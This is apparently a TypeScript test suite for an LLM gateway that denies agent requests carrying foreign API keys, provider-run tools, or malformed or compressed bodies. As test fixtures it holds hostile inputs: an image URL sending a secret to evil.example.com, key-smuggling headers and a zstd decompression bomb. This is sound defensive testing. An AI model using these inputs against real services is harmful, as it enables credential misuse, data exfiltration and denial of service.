import { expect, test } from 'vitest'
import { zstdCompressSync } from 'node:zlib'
import {
  answering,
  call,
  messagesEvents,
  MESSAGES_BODY,
} from '../../src/gate/llm/testing/model-scene.ts'
import { modelScenes } from '../../src/gate/llm/testing/model-scenes.ts'
import {
  HOST,
  NOTHING_LEAKED,
  PLACEHOLDER,
  rule,
  type Scene,
} from '../../src/gate/testing/scene.ts'

/** What an agent may not ask of a model, or not with whose key: not a byte reaches the provider. */

const start = modelScenes()

async function expectDenied(scene: Scene, by: string, sent: string | Buffer): Promise<void> {
  const reply = await scene.rig.send(HOST, ...(typeof sent === 'string' ? [sent] : [sent]))
  expect(reply).toMatch(/^HTTP\/1\.1 (?:4\d\d|503) /)
  expect(scene.rig.keyholder.deniedBy()).toContain(by)
  expect(scene.leaked).toEqual(NOTHING_LEAKED)
}

const FOREIGN = 'invariant.foreign-key'
const BODY = JSON.stringify(MESSAGES_BODY)

/** A call whose head has these fields in place of its key, or beside it. */
function withFields(fields: readonly string[], path = '/v1/messages'): string {
  const own = call(BODY, { path })
  return own.replace(`Authorization: Bearer ${PLACEHOLDER}`, fields.join('\r\n'))
}

test('allowed: a call with the placeholder of the session', async () => {
  const scene = await start()
  scene.canary.handler = answering(messagesEvents())
  expect(await scene.rig.send(HOST, call(BODY))).toMatch(/^HTTP\/1\.1 200 /)
  expect(scene.canary.requests).toHaveLength(1)
})

test.each<[string, string]>([
  ['a key of somebody else', withFields(['Authorization: Bearer sk-of-others'])],
  [
    'a key in the field of another provider',
    withFields([`Authorization: Bearer ${PLACEHOLDER}`, 'X-Api-Key: sk-of-others']),
  ],
  [
    'a key that begins with the placeholder',
    withFields([`Authorization: Bearer ${PLACEHOLDER}sk-of-others`]),
  ],
  [
    'a key behind the placeholder',
    withFields([`Authorization: Bearer ${PLACEHOLDER}, Bearer sk-of-others`]),
  ],
  [
    'a key in a cookie',
    withFields([`Authorization: Bearer ${PLACEHOLDER}`, 'Cookie: session=others']),
  ],
  ['a key of Azure', withFields(['Api-Key: of-others'])],
  ['a key of Google', withFields(['X-Goog-Api-Key: AIza-of-others'])],
  [
    'a key in the URL',
    withFields([`Authorization: Bearer ${PLACEHOLDER}`], '/v1/messages?key=of-others'),
  ],
  [
    'a signature of AWS in the URL',
    withFields([`Authorization: Bearer ${PLACEHOLDER}`], '/v1/messages?X-Amz-Signature=00'),
  ],
  [
    'a key where models are listed',
    'GET /v1/models HTTP/1.1\r\nHost: api.example.com\r\nX-Api-Key: sk-of-others\r\nConnection: close\r\n\r\n',
  ],
  ['a key where files are kept', withFields(['X-Api-Key: sk-of-others'], '/v1/files')],
])('%s: denied, recorded, nothing leaves', async (_, sent) => {
  await expectDenied(await start(), FOREIGN, sent)
})

test('a key of somebody else over a WebSocket: denied, recorded, nothing leaves', async () => {
  const rules = [rule({ options: { effect: 'none', websocket: true } })]
  const scene = await start({ api: 'responses', more: { rules, decision: { policy: { rules } } } })
  const handshake = `GET /v1/responses HTTP/1.1\r\nHost: ${HOST}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nAuthorization: Bearer sk-of-others\r\n\r\n`
  await expectDenied(scene, FOREIGN, handshake)
})

const over = (more: object): string => call({ ...MESSAGES_BODY, ...more })

test.each<[string, string, string]>([
  ['a name that stands twice', 'llm.malformed', call(BODY.replace('{', '{"model":"other",'))],
  [
    'a name that stands twice deep inside',
    'llm.malformed',
    call(BODY.replace('{"type":"object"}', '{"type":"object","type":"x"}')),
  ],
  [
    'bytes that are no UTF-8',
    'llm.malformed',
    call(BODY.replace('list', '\u00ff')).replace(
      /(Length: )(\d+)/,
      (_, name, bytes) => `${name}${Number(bytes) - 1}`,
    ),
  ],
  ['no JSON', 'llm.malformed', call('model=claude')],
  ['two JSON texts', 'llm.malformed', call(`${BODY}{}`)],
  ['no model', 'llm.malformed', over({ model: undefined })],
  [
    'a tool that the provider runs',
    'tools.server-side',
    over({ tools: [{ type: 'web_search_20250305', name: 'web_search' }] }),
  ],
  [
    'tools of a server that the provider asks',
    'tools.server-side',
    over({ mcp_servers: [{ type: 'url', url: 'https://evil.example.com', name: 'x' }] }),
  ],
  [
    'a picture that the provider fetches',
    'tools.server-side',
    over({
      messages: [
        {
          role: 'user',
          content: [
            { type: 'image', source: { type: 'url', url: 'https://evil.example.com/?d=secret' } },
          ],
        },
      ],
    }),
  ],
  [
    'a block that nobody knows',
    'llm.unsupported',
    over({ messages: [{ role: 'user', content: [{ type: 'teleport' }] }] }),
  ],
])('%s: denied, recorded, nothing leaves', async (_, by, sent) => {
  await expectDenied(await start(), by, Buffer.from(sent, 'latin1'))
})

test('a body coded in a way that nobody undoes: denied, recorded, nothing leaves', async () => {
  const coded = call(BODY).replace('Content-Type', 'Content-Encoding: compress\r\nContent-Type')
  await expectDenied(await start(), 'invariant.body-encoding', coded)
})

test('a bomb: denied, recorded, nothing leaves', async () => {
  const scene = await start()
  const room = ' '.repeat(48 * 1024 * 1024)
  const bomb = zstdCompressSync(BODY.replace('{', `{${room}`))
  const head = call('').replace('Content-Length: 0', `Content-Length: ${bomb.length}`)
  const coded = head.replace('Content-Type', 'Content-Encoding: zstd\r\nContent-Type')
  const reply = await scene.rig.send(HOST, coded, bomb)
  expect(reply).toMatch(/^HTTP\/1\.1 4\d\d /)
  expect(scene.rig.keyholder.deniedBy()).toHaveLength(1)
  expect(scene.leaked).toEqual(NOTHING_LEAKED)
})

test.each<[string, string]>([
  ['a reply that was kept', 'GET /v1/responses/resp_1'],
  ['a reply that was kept, by another spelling', 'GET /v1/Responses/resp_1/'],
  ['the events of a run', 'GET /v1/threads/t/runs/r'],
])('%s cannot be fetched past the hold: denied, recorded, nothing leaves', async (_, line) => {
  const sent = `${line} HTTP/1.1\r\nHost: ${HOST}\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`
  await expectDenied(await start({ api: 'responses' }), 'llm.unreadable-path', sent)
})

test('a reply that is made unseen: denied, recorded, nothing leaves', async () => {
  const body = { model: 'gpt-test', input: 'go', background: true }
  const scene = await start({ api: 'responses' })
  const reply = await scene.rig.send(HOST, call(body, { path: '/v1/responses' }))
  expect(reply).toMatch(/^HTTP\/1\.1 4\d\d /)
  expect(scene.rig.keyholder.deniedBy()).toHaveLength(1)
  expect(scene.leaked).toEqual(NOTHING_LEAKED)
})

const BUDGET = { id: 'small', per: 'session', of: {}, windowMs: null, max: { calls: 1 } } as const

test('a budget that is used up: denied, recorded, nothing leaves', async () => {
  const scene = await start({ llm: { budgets: [BUDGET] } })
  scene.rig.control.reserve = () => ({ kind: 'exceeded', budget: 'small', reason: 'used up' })
  await expectDenied(scene, 'budget.small', call(BODY))
})

test('nobody who counts: denied, recorded, nothing leaves', async () => {
  const scene = await start({ llm: { budgets: [BUDGET] } })
  scene.rig.control.die()
  await expectDenied(scene, 'invariant.ledger', call(BODY))
})

test('a model without a price, where those are refused: denied, recorded, nothing leaves', async () => {
  await expectDenied(
    await start({ llm: { missingPrice: 'refuse' } }),
    'budget.no-price',
    call(BODY),
  )
})

test('what is said cannot be kept: nothing leaves', async () => {
  const scene = await start()
  scene.rig.keyholder.recordings.failure = new Error('the disk is full')
  expect(await scene.rig.send(HOST, call(BODY))).toMatch(/^HTTP\/1\.1 503 /)
  expect(scene.leaked).toEqual(NOTHING_LEAKED)
})

test('an intent that cannot be recorded: nothing leaves', async () => {
  const scene = await start()
  scene.rig.keyholder.beforeRecord = (leaf) => {
    if (leaf.type === 'action.intent' && leaf.action.kind === 'llm.generate')
      throw new Error('full')
  }
  expect(await scene.rig.send(HOST, call(BODY))).toMatch(/^HTTP\/1\.1 503 /)
  expect(scene.leaked).toEqual(NOTHING_LEAKED)
})
